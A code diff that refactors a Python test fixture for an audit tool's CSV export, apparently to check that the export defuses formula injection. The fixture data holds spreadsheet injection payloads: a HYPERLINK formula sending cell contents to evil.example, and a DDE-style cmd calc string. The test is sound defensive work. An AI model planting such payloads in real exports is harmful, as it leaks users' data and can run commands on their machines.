@@ -20,10 +20,8 @@ from audit.errors import AuditError
 from audit.export.csvsafe import cell, neutralise, writer
 from audit.export.results_csv import EXPORT_COLUMNS
 from audit.export.tables import TABLES, TYPES, codebook, codebook_markdown, columns, write_tables
-from probes.base import Batch, Incoming
-from tests.helpers.pipeline import Pipeline
-from tests.helpers.smtp import start_smtp
-from tests.helpers.studies import LATE, ROOT, write_study
+from tests.helpers.pipeline import sent_wave, store_replies
+from tests.helpers.studies import LATE, ROOT
 
 runner = CliRunner()
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+7 495 123-45-67 звоните", "@support в телеграме",
@@ -36,32 +34,21 @@ SEMICOLON = ["Имя;=cmd|' /C calc'!A0", "Тариф; +7 495 000-00-00", "ok;; 
 def hostile(tmp_path):
     """Three sent probes; each gets answers whose words and subjects begin like formulas. The texts that
     understanding trims (a leading tab or CR) are then stored as a channel could store them."""
-    peer = start_smtp()
-    try:
-        study = write_study(tmp_path, smtp_port=peer.port, imap_port=1)
-        pipe = Pipeline(study, tmp_path / "a.db", LATE)
-        pipe.run()
-    finally:
-        peer.stop()
-    from audit.collect.ingest import Ingest
-    from audit.collect.understanding import Understander
-
+    pipe = sent_wave(tmp_path)
     sent = pipe.probes(status="sent")
     msgs = []
     for i, text in enumerate(HOSTILE + SEMICOLON):
         p = sent[i % len(sent)]
         raw = (f"From: s@{p.contact.split('@')[1]}\r\nSubject: {'@SUM(1+1)' if i == 0 else 'Re: ' + p.subject}\r\n"
                f"In-Reply-To: {p.message_id}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n").encode()
-        msgs.append(Incoming("anatoly@shopper.example", "INBOX", 1, i + 1,
-                             p.sent_at + timedelta(minutes=10 * (i + 1)), raw))
-    Ingest(pipe.study, pipe.store, pipe.clock).add(Batch("anatoly@shopper.example", "INBOX", 1, len(msgs), msgs))
-    Understander(pipe.study, pipe.store, pipe.clock).run()
+        msgs.append((p.sent_at + timedelta(minutes=10 * (i + 1)), raw))
+    store_replies(pipe, msgs)
     with sqlite3.connect(tmp_path / "a.db") as conn:
         for rid, text in conn.execute("SELECT id, text FROM reply ORDER BY id").fetchall():
             want = (HOSTILE + SEMICOLON)[rid - 1]
             if text != want:  # trimmed by understanding: store the stranger's exact words
                 conn.execute("UPDATE reply SET text = ? WHERE id = ?", (want, rid))
-    return study, tmp_path / "a.db", pipe
+    return pipe.study_path, tmp_path / "a.db", pipe
 
 
 def _csv(path):
